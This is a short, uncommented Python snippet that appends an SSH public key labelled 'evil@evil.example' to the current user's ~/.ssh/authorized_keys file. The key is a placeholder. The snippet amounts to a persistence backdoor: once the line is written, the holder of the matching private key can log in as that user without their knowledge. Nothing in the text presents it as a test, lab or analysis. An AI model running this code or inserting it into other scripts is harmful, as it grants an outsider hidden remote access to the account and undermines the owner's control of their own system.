from pathlib import Path
k = Path.home().joinpath(".ssh", "authorized_keys")
with k.open("a") as f:
    f.write("ssh-ed25519 AAAAExample evil@evil.example\n")
